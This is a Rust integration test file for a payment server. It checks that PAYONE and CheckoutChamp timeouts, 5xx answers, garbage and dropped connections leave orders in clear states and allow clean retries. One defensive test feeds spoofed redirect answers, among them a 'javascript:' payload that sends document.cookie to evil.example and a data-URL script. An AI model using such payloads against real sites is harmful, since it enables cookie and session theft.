//! Faults upstream: PAYONE and CheckoutChamp timing out, answering 5xx, answering garbage, closing the
//! connection. Each gives the buyer the API's error (right code, a sentence in their language), leaves no
//! half-placed order (the store says exactly what happened) and a retry with a new key works afterwards; a
//! placement PAYONE gave no answer of its own to (a timeout, a 5xx, garbage, a broken connection) stays
//! undecided instead, and is asked about again (placement_timeout.rs).
//!
//! The faults come from [`support::FaultyUpstream`] between the server and the sandbox's simulators, and from
//! the simulators' own instruments (visa-0504 holds, visa-0500 answers garbage).
#![cfg(feature = "sandbox")]

mod support;

use amazon_pay_contract::checkoutchamp::{CampaignLine, ImportOrderRequest, ImportOrderResponse};
use amazon_pay_contract::cv2::{PlaceOrderOutcome, PlaceOrderResponse};
use amazon_pay_contract::orders::OrderState;
use amazon_pay_contract::{ErrorCode, Language};
use amazon_pay_server::sandbox::amazon::AgreementType;
use std::time::{Duration, Instant};
use support::{expect_error, payone_behind, start_with, Env, Fault, FaultyUpstream};

/// Each fault, what the buyer is told, and a word of the cause the store records for the operator.
const FAULTS: [(Fault, u16, ErrorCode, &str); 6] = [
    (Fault::Status500, 502, ErrorCode::UpstreamError, "HTTP 500"),
    (Fault::Status503, 502, ErrorCode::UpstreamError, "HTTP 503"),
    (Fault::Close, 502, ErrorCode::UpstreamError, "cannot reach"),
    (Fault::Truncate, 502, ErrorCode::UpstreamError, "cannot reach"),
    (Fault::Hang, 504, ErrorCode::UpstreamTimeout, "did not answer"),
    (Fault::Garbage, 502, ErrorCode::UpstreamInvalid, "no status line"),
];

/// A 5xx, a broken connection or a garbled body is not PAYONE's answer to "Place order": PAYONE may have
/// authorized all the same (placement_timeout.rs), so the attempt stays undecided, as after a timeout: 504
/// `upstream_timeout` (the widget keeps its key), `placing`, the confirmation page keeps asking. Here nothing
/// reached PAYONE: asked again once it is back, with the same reference, PAYONE places that attempt.
#[tokio::test]
async fn payone_faults_when_placing_leave_the_attempt_undecided_and_asking_again_places_it_once() {
    let upstream = FaultyUpstream::start().await;
    let env = payone_behind(&upstream).await;
    // A timeout is in placement_timeout.rs.
    let faults = FAULTS.into_iter().filter(|(fault, ..)| *fault != Fault::Hang);
    for (n, (fault, _, _, detail)) in faults.enumerate() {
        let language = [Language::De, Language::En, Language::Fr, Language::It, Language::Es, Language::De][n];
        let workorder = env.checkout("visa-1111").await;
        upstream.break_on("request=preauthorization", fault);
        let started = Instant::now();
        let first_key = format!("fault-{n}-first");
        let err = expect_error(env.place(&workorder, &first_key, language).await, 504, ErrorCode::UpstreamTimeout, language).await;
        // The upstream's text stays with the operator (the log, the recorded call below).
        assert_eq!(err.detail, None, "{fault:?}: {err:?}");
        assert!(started.elapsed() < Duration::from_secs(5), "{fault:?}: the buyer is not kept waiting");

        // The store tells what happened: one attempt, undecided, with the cause recorded.
        let orders = env.state.store.orders_for_workorder(&workorder).unwrap();
        assert_eq!(orders.len(), 1, "{fault:?}");
        assert_eq!((orders[0].state, orders[0].decline), (OrderState::Placing, Some(ErrorCode::UpstreamTimeout)), "{fault:?}: undecided");
        assert!(orders[0].txid.is_none(), "{fault:?}");
        let calls = env.upstream("preauthorization");
        assert!(calls.last().unwrap().contains(detail), "{fault:?}: {calls:?}");
        assert!(env.sandbox().payone.transaction_for_session(&session_of(&env, &workorder)).is_none(), "{fault:?}: nothing reached PAYONE");
        let order_state: serde_json::Value =
            env.http.get(env.url(&format!("/api/orders/{}", orders[0].id))).send().await.unwrap().json().await.unwrap();
        assert_eq!((order_state["state"].as_str(), order_state["settled"].as_bool()), (Some("placing"), Some(false)), "{fault:?}");

        // PAYONE is back: the same key asks again, and that attempt is placed; a new key gets it, nothing more.
        upstream.heal();
        let response = env.place(&workorder, &first_key, language).await;
        assert_eq!(response.status(), 200, "{fault:?}");
        let placed: PlaceOrderResponse = response.json().await.unwrap();
        assert_eq!(placed.order_id, orders[0].id, "{fault:?}");
        assert!(matches!(placed.outcome, PlaceOrderOutcome::Redirect { .. }), "{fault:?}: {placed:?}");
        let again: PlaceOrderResponse = env.place(&workorder, &format!("fault-{n}-other"), language).await.json().await.unwrap();
        assert_eq!(again, placed, "{fault:?}");
        let states: Vec<OrderState> = env.state.store.orders_for_workorder(&workorder).unwrap().iter().map(|o| o.state).collect();
        assert_eq!(states, [OrderState::Redirected], "{fault:?}");
        let transactions = env.sandbox().payone.transactions_for_session(&session_of(&env, &workorder));
        assert_eq!(transactions.iter().map(|t| t.reference.as_str()).collect::<Vec<_>>(), [placed.order_id.as_str()], "{fault:?}: once");
    }
    assert_eq!(upstream.faulted(), FAULTS.len() - 1);
}

/// A 4xx is something in front of PAYONE refusing the request (a firewall, a wrong endpoint): PAYONE never took
/// it, so the attempt failed (`upstream_failed`, 502) and the buyer's next press, a new key, places a new one.
#[tokio::test]
async fn a_4xx_when_placing_fails_the_attempt_and_a_new_key_places_the_order() {
    let upstream = FaultyUpstream::start().await;
    let env = payone_behind(&upstream).await;
    let workorder = env.checkout("visa-1111").await;
    upstream.break_on("request=preauthorization", Fault::Status403);
    expect_error(env.place(&workorder, "forbidden-first", Language::It).await, 502, ErrorCode::UpstreamError, Language::It).await;
    let orders = env.state.store.orders_for_workorder(&workorder).unwrap();
    assert_eq!((orders.len(), orders[0].state), (1, OrderState::UpstreamFailed));
    // The same key: the same answer, PAYONE not asked again.
    expect_error(env.place(&workorder, "forbidden-first", Language::It).await, 502, ErrorCode::UpstreamError, Language::It).await;
    assert_eq!(env.upstream("preauthorization").len(), 1);
    upstream.heal();
    let response = env.place(&workorder, "forbidden-retry", Language::It).await;
    assert_eq!(response.status(), 200);
    let placed: PlaceOrderResponse = response.json().await.unwrap();
    assert_ne!(placed.order_id, orders[0].id);
    let states: Vec<OrderState> = env.state.store.orders_for_workorder(&workorder).unwrap().iter().map(|o| o.state).collect();
    assert_eq!(states, [OrderState::UpstreamFailed, OrderState::Redirected]);
}

fn session_of(env: &Env, workorder: &str) -> String {
    env.sandbox().payone.workorder(workorder).unwrap().amazon_checkout_session_id
}

#[tokio::test]
async fn payone_faults_when_starting_reviewing_or_changing_delivery_change_nothing() {
    let upstream = FaultyUpstream::start().await;
    let env = payone_behind(&upstream).await;
    for (fault, status, code, _) in FAULTS {
        // Starting a checkout: no checkout is stored, the button says so, the next try works.
        upstream.break_on("createCheckoutSessionPayload", fault);
        let response = env.post_json("/api/cv2/sessions", &serde_json::json!({"items": [{"sku": "mug", "quantity": 1}], "language": "fr"})).await;
        expect_error(response, status, code, Language::Fr).await;
        assert_eq!(env.count("SELECT count(*) FROM checkouts"), 0, "{fault:?}");
        upstream.heal();
    }
    let workorder = env.checkout("visa-1111").await;
    assert_eq!(env.count("SELECT count(*) FROM checkouts"), 1);
    for (fault, status, code, _) in FAULTS {
        // The review page cannot load the buyer's details: an error, nothing stored, nothing placed.
        upstream.break_on("getCheckoutSession", fault);
        let review = env.http.get(env.url(&format!("/api/cv2/sessions/{workorder}?lang=it"))).send().await.unwrap();
        expect_error(review, status, code, Language::It).await;
        let place = env.place(&workorder, &format!("no-details-{fault:?}"), Language::It).await;
        expect_error(place, status, code, Language::It).await;
        assert!(env.state.store.orders_for_workorder(&workorder).unwrap().is_empty(), "{fault:?}: no order without details");
        assert!(env.upstream("preauthorization").is_empty(), "{fault:?}");

        // A delivery change PAYONE did not take keeps the old total.
        upstream.break_on("updateCheckoutSession", fault);
        let before = env.state.store.checkout(&workorder).unwrap().unwrap();
        let change =
            env.post_json(&format!("/api/cv2/sessions/{workorder}/delivery"), &serde_json::json!({"delivery": "express", "language": "es"})).await;
        expect_error(change, status, code, Language::Es).await;
        assert_eq!(env.state.store.checkout(&workorder).unwrap().unwrap(), before, "{fault:?}: the total did not change");
        upstream.heal();
    }
    let response = env.place(&workorder, "after-review-faults", Language::En).await;
    assert_eq!(response.status(), 200);
    assert_eq!(env.upstream("preauthorization").len(), 1);
}

#[tokio::test]
async fn the_simulators_timeout_and_garbage_instruments_are_clear_errors_and_another_instrument_works() {
    let env = start_with(|config| {
        config.payone_timeout = Duration::from_millis(300);
        config.sandbox_timings.upstream_hold = Duration::from_millis(1500);
    })
    .await;
    // A timeout and garbage are undecided (PAYONE may have authorized): the next placement, whatever its key,
    // asks about that attempt again, with its reference.
    for (instrument, status, code, first_state, states) in [
        ("visa-0504", 504, ErrorCode::UpstreamTimeout, OrderState::Placing, &[OrderState::Redirected][..]),
        ("visa-0500", 504, ErrorCode::UpstreamTimeout, OrderState::Placing, &[OrderState::Redirected][..]),
    ] {
        let workorder = env.checkout(instrument).await;
        expect_error(env.place(&workorder, &format!("{instrument}-first"), Language::De).await, status, code, Language::De).await;
        let orders = env.state.store.orders_for_workorder(&workorder).unwrap();
        assert_eq!((orders.len(), orders[0].state), (1, first_state), "{instrument}");
        // The buyer picks another card on Amazon's page and places again.
        env.sandbox().amazon.change_instrument(&session_of(&env, &workorder), "visa-1111").unwrap();
        let response = env.place(&workorder, &format!("{instrument}-retry"), Language::De).await;
        assert_eq!(response.status(), 200, "{instrument}");
        let placed: PlaceOrderResponse = response.json().await.unwrap();
        let now = env.state.store.orders_for_workorder(&workorder).unwrap();
        assert_eq!(now.iter().map(|o| o.state).collect::<Vec<_>>(), states, "{instrument}");
        assert_eq!(placed.order_id, now.last().unwrap().id, "{instrument}");
    }
}

/// A PAYONE answer (spoofed, or PAYONE compromised) whose `redirecturl` is not a web address: the widget would
/// navigate the shop's page to it, so `javascript:` would run in the shop's origin. It never reaches the browser.
#[tokio::test]
async fn a_redirect_that_is_not_a_web_address_never_reaches_the_browser() {
    let upstream = FaultyUpstream::start().await;
    let env = payone_behind(&upstream).await;
    let answers = [
        "status=REDIRECT\ntxid=900001\nuserid=1\nredirecturl=javascript:fetch('//evil.example/?'+document.cookie)\n",
        "status=REDIRECT\ntxid=900002\nuserid=1\nredirecturl=data:text/html,<script>alert(1)</script>\n",
        "status=REDIRECT\ntxid=900003\nuserid=1\nredirecturl=https://user:pass@payments.amazon.de/\n",
    ];
    for (n, answer) in answers.into_iter().enumerate() {
        let workorder = env.checkout("visa-1111").await;
        upstream.break_on("request=preauthorization", Fault::Answer(answer));
        let response = env.place(&workorder, &format!("bad-redirect-{n}"), Language::En).await;
        let err = expect_error(response, 502, ErrorCode::UpstreamInvalid, Language::En).await;
        assert!(!format!("{err:?}").contains("javascript") && !format!("{err:?}").contains("<script>"), "{err:?}");
        let orders = env.state.store.orders_for_workorder(&workorder).unwrap();
        assert_eq!((orders.len(), orders[0].state), (1, OrderState::UpstreamFailed), "{answer}");
        upstream.heal();
    }
}

/// A CheckoutChamp lander's order request for a fresh order reference of Anna's paid with visa-1111.
fn crm_order(env: &Env, key: &str) -> ImportOrderRequest {
    let amazon = &env.sandbox().amazon;
    let token = amazon.issue_token("anna", &["profile", "payments:widget", "payments:shipping_address"]).unwrap();
    let reference = amazon.create_order_reference(&token, AgreementType::OrderReference).unwrap();
    let visa = amazon_pay_server::sandbox::scenario::instrument("visa-1111");
    amazon.update_order_reference(&reference.id, |r| r.instrument = visa).unwrap();
    ImportOrderRequest {
        access_token: token,
        amazon_order_id: reference.id,
        items: vec![CampaignLine { product_id: 101, quantity: 1 }],
        recurring: false,
        idempotency_key: key.to_owned(),
        language: Language::De,
    }
}

#[tokio::test]
async fn checkoutchamp_faults_store_no_import_and_the_same_click_works_once_it_is_back() {
    let upstream = FaultyUpstream::start().await;
    let endpoint = format!("{}/sandbox/checkoutchamp", upstream.base);
    let env = start_with(|config| {
        let cc = config.checkoutchamp.as_mut().expect("sandbox CheckoutChamp");
        cc.endpoint = Some(endpoint);
        cc.timeout = Duration::from_millis(400);
    })
    .await;
    upstream.forward_to(&env.base);
    let cc = env.state.checkoutchamp.as_ref().unwrap();
    for (n, (fault, status, code, _)) in FAULTS.into_iter().enumerate() {
        let request = crm_order(&env, &format!("crm-fault-{n}-key"));
        upstream.break_on("/order/import/", fault);
        let response = env.post_json("/api/checkoutchamp/orders", &serde_json::to_value(&request).unwrap()).await;
        expect_error(response, status, code, Language::De).await;
        assert!(cc.orders.import_by_key(&request.idempotency_key).unwrap().is_none(), "{fault:?}: nothing stored");
        assert_eq!(env.sandbox().checkoutchamp.orders().len(), n, "{fault:?}: nothing reached the CRM");
        let calls = env.upstream("order/import");
        assert_eq!(calls.len(), 2 * n + 1, "{fault:?}: every attempt is logged (a failure and a success per fault)");
        assert_ne!(calls.last().unwrap(), "SUCCESS");

        // Only successful imports are stored, so the very same click (same key) works once the CRM is back.
        upstream.heal();
        let response = env.post_json("/api/checkoutchamp/orders", &serde_json::to_value(&request).unwrap()).await;
        assert_eq!(response.status(), 200, "{fault:?}");
        let answer: ImportOrderResponse = response.json().await.unwrap();
        assert_eq!(cc.orders.import_by_key(&request.idempotency_key).unwrap().unwrap().order_id, answer.order_id);
        assert_eq!(env.sandbox().checkoutchamp.orders().len(), n + 1, "{fault:?}: imported once");
        assert!(env.sandbox().checkoutchamp.order(&answer.order_id).is_some());
    }
}
